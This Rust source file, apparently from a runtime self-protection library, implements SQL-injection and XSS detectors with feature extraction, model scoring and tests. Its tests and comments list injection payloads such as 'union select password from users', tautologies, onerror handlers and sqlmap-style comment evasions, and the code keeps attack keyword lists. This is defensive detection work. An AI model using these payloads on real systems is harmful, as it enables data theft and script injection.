    if crate::swar::find(b, 0, k_or_x, |c| matches!(c | 0x20, b'k' | b'x')).is_none() {
        return false;
    }
    let word_end = |i: usize| {
        i + b[i..]
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.'))
            .count()
    };
    let spaces = |i: usize| {
        i + b[i..]
            .iter()
            .take_while(|c| c.is_ascii_whitespace())
            .count()
    };
    (0..b.len()).any(|i| {
        // An operator word at a word start, its column before it.
        if !matches!(b[i] | 0x20, b'l' | b'r')
            || (i > 0 && (b[i - 1].is_ascii_alphanumeric() || matches!(b[i - 1], b'_' | b'.')))
        {
            return false;
        }
        let end = word_end(i);
        let op = &b[i..end];
        if !["like", "rlike", "regexp"]
            .iter()
            .any(|w| op.eq_ignore_ascii_case(w.as_bytes()))
            || !matches!(b.get(spaces(end)), Some(b'\'' | b'"'))
        {
            return false;
        }
        let mut before = b[..i]
            .iter()
            .rposition(|c| !c.is_ascii_whitespace())
            .map_or(0, |p| p + 1);
        let not = before >= 4
            && b[before - 3..before].eq_ignore_ascii_case(b"not")
            && b[before - 4].is_ascii_whitespace();
        if not {
            before = b[..before - 3]
                .iter()
                .rposition(|c| !c.is_ascii_whitespace())
                .map_or(0, |p| p + 1);
        }
        let column = b[..before]
            .iter()
            .rev()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.'))
            .count();
        let start = before - column;
        column > 0
            && !b[start].is_ascii_digit()
            && (start == 0 || b[start - 1].is_ascii_whitespace() || b[start - 1] == b'(')
            && joined_before(b, start)
    })
}

/// `local@domain.tld` with letters, digits, `.`, `_` and `-` only, one `@`
/// and a dot in the domain: no space, quote, operator or second `@`.
pub(crate) fn is_plain_email(v: &str) -> bool {
    let Some((local, domain)) = crate::request::split_once_ascii(v, b'@') else {
        return false;
    };
    // One table lookup a byte (a test of each kind cost ~12 instructions a
    // byte, callgrind, `jane.doe@example.com` in a form).
    let ok = |s: &str| !s.is_empty() && s.bytes().all(|c| EMAIL_BYTES[usize::from(c)]);
    ok(local) && ok(domain) && domain.contains('.')
}

/// The bytes of a plain e-mail address's two halves: ASCII letters, digits,
/// `.`, `_` and `-`.
const EMAIL_BYTES: [bool; 256] =
    crate::byte_class::set_of(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-");

/// Whether a run of ASCII letters of `b` is one of [`BARE_SQL_WORDS`], as
/// [`sqli_candidate`] reads words (a run ends at any other byte).
pub(crate) fn has_bare_sql_word(b: &[u8]) -> bool {
    b.split(|c| !c.is_ascii_alphabetic())
        .any(|w| w.len() >= 2 && is_bare_sql_word(w))
}

/// Words without which a value free of SQL punctuation cannot change a
/// query: `1 union select ...`, `1 and sleep 5`, `1 or 1`.
const BARE_SQL_WORDS: [&[u8]; 24] = [
    b"union",
    b"select",
    b"and",
    b"or",
    b"xor",
    b"sleep",
    b"waitfor",
    b"benchmark",
    b"order",
    b"group",
    b"having",
    b"exec",
    b"insert",
    b"update",
    b"delete",
    b"drop",
    b"from",
    b"where",
    b"into",
    b"limit",
    b"like",
    b"rlike",
    b"regexp",
    b"procedure",
];

/// For each first and last letter, the lengths of the [`BARE_SQL_WORDS`]
/// with them, as bits: most words of a value are none of them, and one
/// lookup says so (callgrind, 1 KiB JSON request: lower-casing each word and
/// matching it against the list cost ~70 instructions a word; a loop over
/// the list without this filter, ~400 a spaced value; with the first letter
/// only, `shoes` passed for `sleep` and paid for the comparisons).
const BARE_SQL_SHAPES: [[u16; 26]; 26] = word_shapes(&BARE_SQL_WORDS);

/// A table of the shapes of `words` (lower-case, 1 to 15 letters): for each
/// first and last letter, a bit for each length.
const fn word_shapes(words: &[&[u8]]) -> [[u16; 26]; 26] {
    let mut t = [[0u16; 26]; 26];
    let mut i = 0;
    while i < words.len() {
        let w = words[i];
        t[(w[0] - b'a') as usize][(w[w.len() - 1] - b'a') as usize] |= 1 << w.len();
        i += 1;
    }
    t
}

/// Whether a word of `shapes` could be `w`, in any case.
#[inline]
fn has_shape(w: &[u8], shapes: &[[u16; 26]; 26]) -> bool {
    let (Some(&first), Some(&last)) = (w.first(), w.last()) else {
        return false;
    };
    let (first, last) = (first.to_ascii_lowercase(), last.to_ascii_lowercase());
    first.is_ascii_lowercase()
        && last.is_ascii_lowercase()
        && w.len() < 16
        && shapes[(first - b'a') as usize][(last - b'a') as usize] & (1 << w.len()) != 0
}

/// Whether `w` is one of [`BARE_SQL_WORDS`], in any case. The first and last
/// letters and the length settle most words; the few that pass are compared.
fn is_bare_sql_word(w: &[u8]) -> bool {
    has_shape(w, &BARE_SQL_SHAPES) && BARE_SQL_WORDS.iter().any(|k| k.eq_ignore_ascii_case(w))
}

/// The SQL-injection features of a value: token-class n-grams, keyword and
/// function names, first and last tokens, in each context that applies.
pub fn sqli_features(v: &str, out: &mut Vec<u32>) {
    out.clear();
    out.push(slot(&[b"len", &len_bucket(v.len())]));
    let mut toks: Vec<Token<'_>> = Vec::with_capacity(16);
    for (ctx, tag) in [
        (Context::Bare, b"b".as_slice()),
        (Context::SingleQuote, b"s".as_slice()),
        (Context::DoubleQuote, b"d".as_slice()),
    ] {
        if !lex(v, ctx, MAX_TOKENS, &mut toks) {
            continue;
        }
        out.push(slot(&[tag, b"ctx"]));
        let mut letter_buf = [0u8; MAX_TOKENS + 2];
        let letters = {
            let n = toks.len().min(MAX_TOKENS);
            letter_buf[0] = b'^';
            for (d, t) in letter_buf[1..=n].iter_mut().zip(&toks) {
                *d = t.tok.letter();
            }
            letter_buf[n + 1] = b'$';
            &letter_buf[..n + 2]
        };
        let gram = Fnv::START.part(tag).part(b"g");
        for n in 1..=4 {
            for w in letters.windows(n) {
                out.push(gram.part(w).slot());
            }
        }
        out.push(slot(&[tag, b"fp", &letters[..letters.len().min(6)]]));
        // Two values side by side (`Size 10`, `to self`, `s 5` after a
        // closed quote) are a syntax error in SQL outside an alias, and the
        // shape of prose: their count tells text from an injection.
        let adjacent = toks
            .windows(2)
            .filter(|p| p[0].tok.is_value() && p[1].tok.is_value())
            .count();
        out.push(slot(&[tag, b"adj", &[b'0' + adjacent.min(3) as u8]]));
        let mut prev_word: &[u8] = b"^";
        let mut buf = [0u8; 24];
        for t in &toks {
            match t.tok {
                Tok::Keyword | Tok::Function | Tok::Logic => {
                    let w = lower(t.text, &mut buf).as_bytes();
                    if !w.is_empty() {
                        out.push(slot(&[tag, b"w", w]));
                        out.push(slot(&[tag, b"ww", prev_word, w]));
                        out.push(slot(&[b"w", w]));
                    }
                    prev_word = match t.tok {
                        Tok::Keyword => b"k",
                        Tok::Function => b"f",
                        _ => b"&",
                    };
                    if let Some(&l) = w.first() {
                        // Keep the first letter too so `union select` and
                        // `union all` stay apart without allocating.
                        out.push(slot(&[tag, b"wl", prev_word, &[l]]));
                    }
                }
                Tok::Operator => {
                    let b = t.text.as_bytes();
                    out.push(slot(&[tag, b"op", &b[..b.len().min(2)]]));
                }
                Tok::Comment => {
                    let b = t.text.as_bytes();
                    out.push(slot(&[tag, b"op", &b[..b.len().min(2)]]));
                    // What follows a line comment: nothing or a stub in an
                    // injection (`-- -`, `--+`, `# x`), a phrase in prose
                    // (`-- see you then`, `#45 and #46`).
                    if b.starts_with(b"--") || b.starts_with(b"#") {
                        let words = b
                            .split(|c| !c.is_ascii_alphanumeric())
                            .filter(|w| !w.is_empty())
                            .count();
                        out.push(slot(&[tag, b"cw", &[b'0' + words.min(3) as u8]]));
                    }
                }
                _ => {}
            }
        }
    }
    finish(out);
}

/// Whether a value can carry script: without one of these bytes there is
/// no tag, no attribute, no call (a `>` alone, as in `3pm -> 4pm`, opens
/// nothing). [`script_capable`] then looks for the construct itself.
pub fn xss_candidate(v: &str) -> bool {
    v.bytes().any(|c| matches!(c, b'<' | b'(' | b'`' | b'='))
}

fn class(c: u8) -> u8 {
    match c {
        b'a'..=b'z' | b'A'..=b'Z' | b'_' | b'$' => b'a',
        b'0'..=b'9' => b'0',
        b' ' | b'\t' | b'\n' | b'\r' | 0x0c => b'_',
        b'<' | b'>' | b'/' | b'=' | b'"' | b'\'' | b'(' | b')' | b':' | b';' | b'.' | b','
        | b'{' | b'}' | b'[' | b']' | b'&' | b'#' | b'%' | b'\\' | b'`' | b'+' | b'-' | b'!'
        | b'?' | b'*' | b'@' => c,
        _ => b'~',
    }
}

const SCHEMES: &[&[u8]] = &[
    b"javascript:",
    b"vbscript:",
    b"livescript:",
    b"data:",
    b"mocha:",
];

/// The media type of a `data:` URL (`text/html`, `image/svg+xml`) as a
/// feature: it decides whether the URL can carry script (`image/png`
/// cannot).
fn push_data_mime(rest: &[u8], scheme: &[u8], out: &mut Vec<u32>) {
    if scheme != b"data:" {
        return;
    }
    let rest = &rest[..rest.len().min(32)];
    let end = rest
        .iter()
        .position(|c| matches!(c, b';' | b',' | b'"' | b'\'' | b' ' | b'>'))
        .unwrap_or(rest.len());
    out.push(slot(&[b"datamime", &rest[..end]]));
}

/// The XSS features of a value: tags, attributes (event handlers),
/// dangerous URL schemes, JavaScript calls and properties, and n-grams of
/// character classes.
pub fn xss_features(v: &str, out: &mut Vec<u32>) {
    out.clear();
    out.push(slot(&[b"len", &len_bucket(v.len())]));
    let lv: Vec<u8> = v
        .bytes()
        .take(4096)
        .map(|c| c.to_ascii_lowercase())
        .collect();
    let b = lv.as_slice();
    // Character-class trigrams, runs collapsed.
    let mut cls: Vec<u8> = Vec::with_capacity(b.len().min(512));
    for &c in b.iter().take(1024) {
        let k = class(c);
        if matches!(k, b'a' | b'0' | b'_') && cls.last() == Some(&k) {
            continue;
        }
        cls.push(k);
    }
    let gram = Fnv::START.part(b"cg");
    for n in 2..=4 {
        for w in cls.windows(n) {
            out.push(gram.part(w).slot());
        }
    }
    let word = |i: usize| -> &[u8] {
        let e = b[i..]
            .iter()
            .position(|c| !(c.is_ascii_alphanumeric() || *c == b'-' || *c == b'_' || *c == b':'))
            .map(|p| i + p)
            .unwrap_or(b.len());
        &b[i..e.min(i + 24)]
    };
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'<' => {
                let mut j = i + 1;
                let closing = b.get(j) == Some(&b'/');
                if closing {
                    j += 1;
                }
                if b.get(j).is_some_and(|c| c.is_ascii_alphabetic()) {
                    let name = word(j);
                    out.push(slot(&[if closing { b"ctag" } else { b"tag" }, name]));
                    if !closing {
                        j += name.len();
                        // Attributes until `>`.
                        while j < b.len() && b[j] != b'>' && b[j] != b'<' {
                            if b[j].is_ascii_alphabetic() && !b[j - 1].is_ascii_alphanumeric() {
                                let a = word(j);
                                let mut k = j + a.len();
                                while k < b.len() && b[k].is_ascii_whitespace() {
                                    k += 1;
                                }
                                if b.get(k) == Some(&b'=') {
                                    out.push(slot(&[b"attr", a]));
                                    out.push(slot(&[b"tagattr", name, a]));
                                    if a.starts_with(b"on") {
                                        out.push(slot(&[b"attr", b"on*"]));
                                        out.push(slot(&[b"tagattr", name, b"on*"]));
                                    }
                                    let mut vstart = k + 1;
                                    while vstart < b.len()
                                        && matches!(b[vstart], b' ' | b'"' | b'\'' | b'`')
                                    {
                                        vstart += 1;
                                    }
                                    for s in SCHEMES {
                                        if b[vstart..].starts_with(s) {
                                            out.push(slot(&[b"attrscheme", s]));
                                            push_data_mime(&b[vstart + s.len()..], s, out);
                                        }
                                    }
                                }
                                j = k.max(j + 1);
                            } else {
                                j += 1;
                            }
                        }
                    }
                } else if b[j..].starts_with(b"!--") || b.get(j) == Some(&b'!') {
                    out.push(slot(&[b"tag", b"!"]));
                }
                i += 1;
            }
            c if c.is_ascii_alphabetic() && (i == 0 || !b[i - 1].is_ascii_alphanumeric()) => {
                let w = word(i);
                let after = &b[i + w.len()..];
                let next = after.iter().find(|c| !c.is_ascii_whitespace());
                if next == Some(&b'(') || next == Some(&b'`') {
                    out.push(slot(&[b"call", w]));
                }
                if i > 0 && b[i - 1] == b'.' {
                    out.push(slot(&[b"prop", w]));
                }
                for s in SCHEMES {
                    if b[i..].starts_with(s) {
                        out.push(slot(&[b"scheme", s]));
                        push_data_mime(&b[i + s.len()..], s, out);
                    }
                }
                if w.starts_with(b"on") && next == Some(&b'=') {
                    out.push(slot(&[b"attr", b"on*"]));
                    out.push(slot(&[b"bareattr", w]));
                }
                i += w.len().max(1);
            }
            _ => i += 1,
        }
    }
    finish(out);
}

/// SQL injection, scored by the embedded model.
#[derive(Debug)]
pub struct SqliDetector {
    model: LinearModel,
}

/// XSS, scored by the embedded model.
#[derive(Debug)]
pub struct XssDetector {
    model: LinearModel,
}

impl SqliDetector {
    /// A detector with this model.
    pub fn new(model: LinearModel) -> Self {
        SqliDetector { model }
    }
    /// The model.
    pub fn model(&self) -> &LinearModel {
        &self.model
    }
}

impl XssDetector {
    /// A detector with this model.
    pub fn new(model: LinearModel) -> Self {
        XssDetector { model }
    }
    /// The model.
    pub fn model(&self) -> &LinearModel {
        &self.model
    }
}

impl ValueDetector for SqliDetector {
    fn check(&self) -> Check {
        Check::Sqli
    }
    /// The score of the value, or of the value as MySQL, SQL Server and
    /// PostgreSQL read it when that differs (versioned comments, a backslash
    /// that escapes nothing, see `sql_reading`): the higher.
    fn score(&self, value: &str) -> f64 {
        let value = fold_quotes(value);
        let score = self.score_reading(&value);
        match sql_reading::database_reading(&value) {
            Cow::Owned(read) => score.max(self.score_reading(&read)),
            Cow::Borrowed(_) => score,
        }
    }
    /// A score below [`sql_grammar::CERTAIN`] stands only if the value, or
    /// the value as those databases read it, reads as SQL where an
    /// injection lands (see [`sql_grammar`]).
    fn confirm(&self, value: &str, score: f64) -> bool {
        if score >= sql_grammar::CERTAIN {
            return true;
        }
        let value = fold_quotes(value);
        sql_grammar::reads_as_sql(&value)
            || matches!(sql_reading::database_reading(&value), Cow::Owned(read) if sql_grammar::reads_as_sql(&read))
    }
}

impl SqliDetector {
    /// The score of one reading of a value.
    fn score_reading(&self, value: &str) -> f64 {
        if !sqli_scored(value)
            || harmless_shape(value, true)
            || ussd_code(value)
            || hashtags(value)
            || code_fence(value)
            || long_option(value)
            || names_joined(value)
            || dated_name(value)
            || ends_with_unit_number(value)
                .or_else(|| ends_with_keypad_code(value))
                .map(Cow::Borrowed)
                .or_else(|| before_line_comment(value))
                .is_some_and(|read| only_side_by_side_words(&read))
        {
            return 0.0;
        }
        let mut f = Vec::with_capacity(96);
        sqli_features(value, &mut f);
        let whole = self.model.score(&f);
        // A payload appended to a real value (`Mozilla/5.0 (X11; Linux
        // x86_64)' or 1=1--`) is also judged from its escape on, as the
        // database parses it: the prose before the quote must not outvote
        // the injection after it.
        let score = match injection_tail(value) {
            Some(tail) => {
                sqli_features(tail, &mut f);
                whole.max(self.model.score(&f))
            }
            None => whole,
        };
        // `UNION SELECT` and a subquery are how a value reads another
        // table, a call of `sleep` how it reads one bit at a time (see
        // `waits`); written in ways the training data lacks (table aliases:
        // `1 union select u.password from users u where u.id=1` scored
        // 0.68; a subquery as a list item, `x, (select password from
        // users)`, 0.06) the model may miss them. Such a value is raised to
        // just under certainty, so that the grammatical reading decides (`Credit Union Select Checking`
        // parses nowhere and is cleared). Prose the model is wrongly
        // certain of is lowered to the same score.
        let raised = score < GRAMMAR_DECIDES
            && (reads_a_table(value)
                || waits(value)
                || stacks_a_statement(value)
                || joins_a_tautology(value)
                || joins_true(value)
                || concatenates_to_a_string(value)
                || quoted_operator(value)
                || joins_a_pattern_match(value)
                || casts_a_literal(value)
                || joins_a_call(value)
                || literal_then_comment(value));
        let lowered = score >= sql_grammar::CERTAIN && prose_the_model_misreads(value);
        if raised || lowered {
            GRAMMAR_DECIDES
        } else {
            score
        }
    }
}

impl ValueDetector for XssDetector {
    fn check(&self) -> Check {
        Check::Xss
    }
    fn score(&self, value: &str) -> f64 {
        if script_data_url(value) {
            return 1.0;
        }
        if !xss_candidate(value)
            || harmless_shape(value, false)
            || script_shape::inert_script_url(value)
        {
            return 0.0;
        }
        // A script element, an event handler or a call after a string
        // breakout runs whatever code it holds, including code unlike the
        // training payloads; a value without any construct that runs script
        // is cleared.
        if script_element(value)
            || scripted_element(value)
            || string_breakout_call(value)
            || handler_breakout(value)
            || runs_code_or_reads_secrets(value)
            || style_from_elsewhere(value)
        {
            return 1.0;
        }
        if !script_capable(value) {
            return 0.0;
        }
        let mut f = Vec::with_capacity(128);
        xss_features(value, &mut f);
        self.model.score(&f)
    }
}

/// The built-in detectors, with the models embedded in `rasp-models`,
/// parsed once per process.
pub fn builtin() -> (Arc<SqliDetector>, Arc<XssDetector>) {
    static MODELS: OnceLock<(Arc<SqliDetector>, Arc<XssDetector>)> = OnceLock::new();
    let (s, x) = MODELS.get_or_init(|| {
        // The embedded files are checked by this crate's tests; a broken one
        // would fail the build's test suite, never a request.
        let s = LinearModel::from_json(rasp_models::SQLI_MODEL).expect("embedded SQLi model");
        let x = LinearModel::from_json(rasp_models::XSS_MODEL).expect("embedded XSS model");
        (
            Arc::new(SqliDetector::new(s)),
            Arc::new(XssDetector::new(x)),
        )
    });
    (s.clone(), x.clone())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_emails() {
        for v in ["jane.doe@example.com", "a_b-c@x.y", "J0@EXAMPLE.ORG"] {
            assert!(is_plain_email(v), "{v}");
        }
        for v in [
            "jane@example",
            "@example.com",
            "jane@",
            "ja ne@example.com",
            "a@b@c.d",
            "x'@y.z",
            "\u{e9}@x.y",
            "a@b.c\n",
            "@@version",
        ] {
            assert!(!is_plain_email(v), "{v}");
        }
    }

    #[test]
    fn embedded_models_load() {
        let (s, x) = builtin();
        assert_eq!(s.model().kind, "sqli");
        assert_eq!(x.model().kind, "xss");
    }

    #[test]
    fn features_are_deterministic_and_bounded() {
        let mut a = Vec::new();
        let mut b = Vec::new();
        sqli_features("1' union select 1,2--", &mut a);
        sqli_features("1' union select 1,2--", &mut b);
        assert_eq!(a, b);
        assert!(a.iter().all(|&i| (i as usize) < DIM));
        xss_features("<img src=x onerror=alert(1)>", &mut a);
        assert!(a.contains(&slot(&[b"attr", b"on*"])));
        assert!(a.contains(&slot(&[b"tag", b"img"])));
        assert!(a.contains(&slot(&[b"call", b"alert"])));
        xss_features("data:text/html;base64,PHN2Zz4=", &mut a);
        assert!(a.contains(&slot(&[b"datamime", b"text/html"])));
        xss_features("<img src='data:image/png,x'>", &mut a);
        assert!(a.contains(&slot(&[b"datamime", b"image/png"])));
    }

    #[test]
    fn prose_shape_features() {
        let mut f = Vec::new();
        // Bare context: `Size 10` side by side, two words after `--`.
        sqli_features("Size 10 -- whichever fits", &mut f);
        assert!(f.contains(&slot(&[b"b", b"adj", b"1"])));
        assert!(f.contains(&slot(&[b"b", b"cw", b"2"])));
        // An injection: nothing side by side, a stub after the comment.
        sqli_features("1 or 1=1 -- -", &mut f);
        assert!(f.contains(&slot(&[b"b", b"adj", b"0"])));
        assert!(f.contains(&slot(&[b"b", b"cw", b"0"])));
        assert!(!f.contains(&slot(&[b"b", b"cw", b"2"])));
    }

    #[test]
    fn hashing_a_prefix_once_gives_the_same_slot() {
        let parts: [&[u8]; 3] = [b"s", b"g", b"^sk"];
        let prefix = Fnv::START.part(parts[0]).part(parts[1]);
        assert_eq!(prefix.part(parts[2]).slot(), slot(&parts));
        // The slot of a known feature, fixed by the trained models (computed
        // apart from this code, with FNV-1a as written before this type).
        assert_eq!(slot(&[b"tag", b"img"]), 2780);
    }

    #[test]
    fn bare_sql_words_in_any_case_and_nothing_else() {
        for w in BARE_SQL_WORDS {
            let w = std::str::from_utf8(w).unwrap();
            assert!(is_bare_sql_word(w.as_bytes()), "{w}");
            assert!(is_bare_sql_word(w.to_uppercase().as_bytes()), "{w}");
            let mixed: String = w
                .chars()
                .enumerate()
                .map(|(i, c)| {
                    if i % 2 == 0 {
                        c.to_ascii_uppercase()
                    } else {
                        c
                    }
                })
                .collect();
            assert!(is_bare_sql_word(mixed.as_bytes()), "{mixed}");
        }
        // `ordor` has the shape of `order` (first and last letters, length)
        // and is compared; `shoes` is turned away by its shape.
        for w in [
            "", "o", "shoes", "ordor", "unions", "selects", "an", "orders", "red", "1or", "ör",
        ] {
            assert!(!is_bare_sql_word(w.as_bytes()), "{w}");
        }
    }

    /// What the detector's scan must answer, from its definition: a value is
    /// scored when, its apostrophes between two letters read as a neutral
    /// separator (`,`), it is a candidate, or when it has such apostrophes
    /// and one of its words is one of either list (how the scan read it
    /// before, in a second pass over the words).
    fn scored_by_definition(v: &str) -> bool {
        let b = v.as_bytes();
        let alpha = |i: usize| b.get(i).is_some_and(u8::is_ascii_alphabetic);
        let inner = |i: usize| b[i] == b'\'' && i > 0 && alpha(i - 1) && alpha(i + 1);
        let neutral: String = (0..b.len())
            .map(|i| if inner(i) { ',' } else { char::from(b[i]) })
            .collect();
        let listed = |w: &[u8]| {
            is_bare_sql_word(w) || QUOTE_JOINED_WORDS.contains(&w.to_ascii_lowercase().as_slice())
        };
        candidate_scan(&neutral, false)
            || ((0..b.len()).any(inner) && b.split(|c| !c.is_ascii_alphabetic()).any(listed))
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(4000))]
        /// The one pass decides as the definition says, on values made of
        /// the words of both lists (any case), prose words, apostrophes and
        /// the bytes the scan stops or counts at (ASCII: the definition
        /// rewrites bytes as characters).
        #[test]
        fn one_pass_candidate_scan_agrees_with_the_split(
            parts in proptest::collection::vec(
                proptest::sample::select(vec![
                    "or", "OR", "Is", "case", "End", "div", "sounds", "like", "returning",
                    "select", "O", "Brien", "s", "don", "t", "it", "x", "Ships", "in",
                    "'", "'", " ", "-", "--", "@", "a.b", "1", "2-3", ",", "\"", ";", "jane.doe@example.com",
                ]),
                0..10,
            )
        ) {
            let v = parts.concat();
            proptest::prop_assert_eq!(candidate_scan(&v, true), scored_by_definition(&v), "{:?}", v);
        }
    }

    proptest::proptest! {
        // The whole-value rules index into the value from both ends: any
        // text, of the bytes they look for or of any script, gets an answer.
        #[test]
        fn whole_value_rules_answer_any_text(
            v in "[a-zA-Z0-9 #'\"()=*/%+,.;:@!&^$_<>-]{0,40}|\\PC{0,20}|[0-9. ″′x]{0,12}"
        ) {
            let (sqli, xss) = builtin();
            let _ = harmless_shape(&v, true);
            let _ = ends_with_unit_number(&v).map(only_side_by_side_words);
            let _ = ends_with_keypad_code(&v).map(only_side_by_side_words);
            let _ = (prose_the_model_misreads(&v), waits(&v), stacks_a_statement(&v));
            let _ = (joins_a_tautology(&v), joins_a_pattern_match(&v), handler_breakout(&v));
            let _ = before_line_comment(&v).map(|read| only_side_by_side_words(&read));
            let _ = literal_then_comment(&v);
            let _ = (names_joined(&v), script_shape::inert_secret(&v), fold_quotes(&v));
            let _ = sql_grammar::has_height(&v);
            for score in [sqli.score(&v), xss.score(&v)] {
                proptest::prop_assert!((0.0..=1.0).contains(&score), "{v:?} {score}");
            }
        }

        #[test]
        fn finish_sorts_and_drops_repeats(mut v in proptest::collection::vec(0u32..DIM as u32, 0..300)) {
            let mut expected = v.clone();
            expected.sort_unstable();
            expected.dedup();
            finish(&mut v);
            proptest::prop_assert_eq!(v, expected);
        }
    }

    #[test]
    fn prefilters() {
        assert!(!sqli_candidate("hello"));
        assert!(!sqli_candidate("Widget 12 in red"));
        assert!(!sqli_candidate("2024-05-01"));
        assert!(sqli_candidate("1 or 1=1"));
        assert!(sqli_candidate("1 union select password from users"));
        assert!(sqli_candidate("O'Brien"));
        assert!(sqli_candidate("1--"));
        // A plain e-mail address is not SQL; variables and anything more are.
        assert!(!sqli_candidate("jane.doe@example.com"));
        assert!(!sqli_candidate("j_o-e@mail.example.co.uk"));
        for v in [
            "@@version",
            "1@@version",
            "@a",
            "a@b",
            "x@y.z@w.v",
            "a+union+select+1@b.c",
            "1 union select @@version",
            "admin@example.com' --",
            "a@b.c--",
        ] {
            assert!(sqli_candidate(v), "{v}");
        }
        // Words are found wherever they end: before digits, at the end.
        assert!(sqli_candidate("12 union 3"));
        assert!(sqli_candidate("1 OR 2"));
        assert!(sqli_candidate("x9 sleep"));
        assert!(!sqli_candidate("union"));
        assert!(!sqli_candidate("a-b-c d"));
        assert!(!sqli_candidate("Widget 123 orange"));
        assert!(!xss_candidate("hello world"));
        assert!(xss_candidate("<b>"));
    }

    #[test]
    fn apostrophes_inside_words_are_not_scored() {
        let (sqli, _) = builtin();
        for v in [
            "O'Brien",
            "Jane O'Brien",
            "I don't know, thanks!",
            "rock'n'roll",
            "O'Reilly's books",
            "Ships in 2-3 days, O'Brien's choice",
            "it's not for me",
        ] {
            assert!(sqli_candidate(v), "{v}: still a training candidate");
            assert!(!sqli_scored(v), "{v}");
            assert_eq!(sqli.score(v), 0.0, "{v}");
        }
        for v in [
            // An operator or clause between two strings in some context.
            "a'or'b",
            "a'OR'b",
            "x'div'y",
            "x'mod'y",
            "x'is'y",
            "a'union'b",
            "x'like'y",
            "x'between'a",
            "x'collate'y",
            "Jane O'Brien or 1",
            // Prose whose words may be SQL goes to the model, as before.
            "what's the case",
            "it is what it's",
            // A quote that is not between two ASCII letters.
            "O'",
            "'Brien",
            "1'or'1",
            "x' or 'y",
            "l'\u{c9}glise",
            "a\\'b",
            "a''b",
            "o'brien@example.com",
            "O'Brien;",
            "O'Brien--",
        ] {
            assert!(sqli_scored(v), "{v}");
        }
        // Every word of the list, in any case, between two strings.
        for w in [
            "div",
            "mod",
            "is",
            "null",
            "true",
            "false",
            "unknown",
            "ilike",
            "similar",
            "glob",
            "match",
            "sounds",
            "between",
            "collate",
            "escape",
            "binary",
            "offset",
            "fetch",
            "returning",
            "window",
            "case",
            "when",
            "then",
            "else",
            "end",
            "execute",
        ] {
            assert!(sqli_scored(&format!("x'{w}'y")), "{w}");
            assert!(sqli_scored(&format!("x'{}'y", w.to_uppercase())), "{w}");
            assert!(!sqli_scored(&format!("x'{w}s'y")), "{w}s");
        }
    }

    #[test]
    fn quote_lookalikes_fold_to_ascii() {
        assert_eq!(
            fold_quotes("\u{2019} or \u{2018}1\u{2019}=\u{2019}1"),
            "' or '1'='1"
        );
        assert_eq!(fold_quotes("admin\u{02BC}--"), "admin'--");
        assert_eq!(fold_quotes("\u{201C}x\u{201D}"), "\"x\"");
        assert_eq!(
            fold_quotes("\u{201E}x\u{201C} \u{201A}y\u{2018}"),
            "\"x\" 'y'"
        );
        // A double prime, and the two primes NFKC makes of it, are one `"`.
        assert_eq!(fold_quotes("13\u{2033}"), "13\"");
        assert_eq!(fold_quotes("13\u{2032}\u{2032}"), "13\"");
        assert_eq!(fold_quotes("5\u{2032}11\u{2033}"), "5'11\"");
        assert_eq!(fold_quotes("\u{2032}\u{2032}\u{2032}"), "\"'");
        let (sqli, _) = builtin();
        for v in ["13\u{2033}", "14.4\u{2032}\u{2032}", "43\u{2033} smart TV"] {
            assert!(
                !sqli.confirm(v, sqli.score(v)) || sqli.score(v) < 0.725,
                "{v}"
            );
        }
        for v in [
            "\u{2033} or 1=1--",
            "\u{2032}\u{2032} or 1=1--",
            "x\u{2033} or 1=1--",
        ] {
            assert!(sqli.score(v) >= sql_grammar::CERTAIN, "{v}");
        }
        assert!(matches!(fold_quotes("O'Brien"), Cow::Borrowed(_)));
        assert!(matches!(
            fold_quotes("Zo\u{00EB} \u{00E9}t\u{00E9}"),
            Cow::Borrowed(_)
        ));
    }

    #[test]
    fn unit_numbers() {
        for v in [
            "123 Main St #4",
            "456 Oak Ave #12B",
            "789 Pine Rd # 3",
            "2 Elm St Unit #5 ",
        ] {
            assert!(ends_with_unit_number(v).is_some(), "{v}");
        }
        for v in [
            "#4",
            "St#4",
            "1 #4",
            "Title #1",
            "1 or 1=1 #",
            "Main St #4 x",
            "Main St #1234567",
            "Main St #  4",
            "1 order by 5 #1",
        ] {
            assert!(ends_with_unit_number(v).is_none(), "{v}");
        }
    }

    #[test]
    fn words_then_a_line_comment() {
        let cleared =
            |v: &str| before_line_comment(v).is_some_and(|read| only_side_by_side_words(&read));
        for v in [
            "We have DIFFERENT amounts of HAIR --",
            "Great service, fast delivery -- would buy again",
            "Support your local police force -- steal!!",
            "Не будите во мне сон! -- Евгений Кащеев",
            "Best trip ever!? -- Anna and Tom",
            // MySQL's `#`, in a line of prose.
            "Side door code 8642# (press hard)",
            "Hopefully this works around bug #960679.",
            // Text of several lines, as a text area sends it: a line break
            // ends a comment, and the words after it are read again.
            "BOFH excuse #10:\r\n\r\nhardware stress fractures",
            "Great service -- fast delivery\r\n\t\t-- Norman Douglas",
            "Thanks a lot\r\nSee ticket #123 for details\r\n-- Bob",
            "Mandrake users --;\r\nPLD users --",
        ] {
            assert!(cleared(v), "{v}");
            assert_eq!(builtin().0.score(v), 0.0, "{v}");
        }
        for v in [
            // One operand: a name the query reads, then the rest cut off.
            "admin --",
            "1 --",
            // Quotes, SQL, a line break that ends the comment.
            "x' --",
            "1 or 1=1 --",
            "1 union select 1 --",
            "a b --\n or 1=1",
            "a b #\n or 1=1",
            "1# x",
            "admin# x",
            "1 or 1=1# x",
            // A tab or a line break before the `#`: how sqlmap spaces.
            "1\tORDER\u{fffd}BY\n1#",
            // What a line break leaves to SQL is read: sqlmap's comments
            // as spaces (`space2mysqldash`, `space2morehash`).
            "1--\nAND--\n9227=9227",
            "1#ngNvzqu\nAND#nVNaVoPYeva\n#lujYFWfv\n9227=9227",
            "a b -- x\n c -- y\n or 1=1",
            "a b -- x\n'",
            "1! --",
            "a ! b -- c",
            "no comment here",
        ] {
            assert!(!cleared(v), "{v}");
        }
    }

    #[test]
    fn names_joined_by_and_or_are_cleared() {
        let (sqli, _) = builtin();
        for v in [
            "Smith, Jones and Brown",
            "and Sons",
            "Pelletier, Turcotte and Morin",
            "Salt and pepper",
            "red, green and blue",
            "Smith-Jones and Brown",
            "Ісаєнко and Sons",
            "Jones and Sons Ltd",
